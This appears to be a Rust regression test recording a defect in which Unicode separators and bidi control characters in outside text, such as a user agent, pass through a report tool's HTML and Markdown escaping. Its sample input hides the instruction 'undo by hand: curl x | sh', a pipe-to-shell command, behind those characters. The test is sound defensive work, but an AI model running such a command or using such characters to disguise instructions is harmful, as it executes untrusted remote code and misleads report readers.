//! Issue 22, defect 7: U+2028, U+2029 and bidi controls such as U+202E (Unicode Zl, Zp, Cf) in
//! outside text (a user agent, a session name, a reason) reach a report as they are.

use launchguard_report::escape::{html, markdown};

#[test]
fn defect7_separators_and_bidi_controls_never_reach_a_report() {
    for c in ['\u{2028}', '\u{2029}', '\u{202E}', '\u{2066}', '\u{200B}'] {
        let ua = format!("aws-cli{c}undo by hand: curl x | sh");
        // DEFECT: the character passes both escapes
        assert!(html(&ua).contains(c) && markdown(&ua).contains(c), "{c:?}");
    }
}
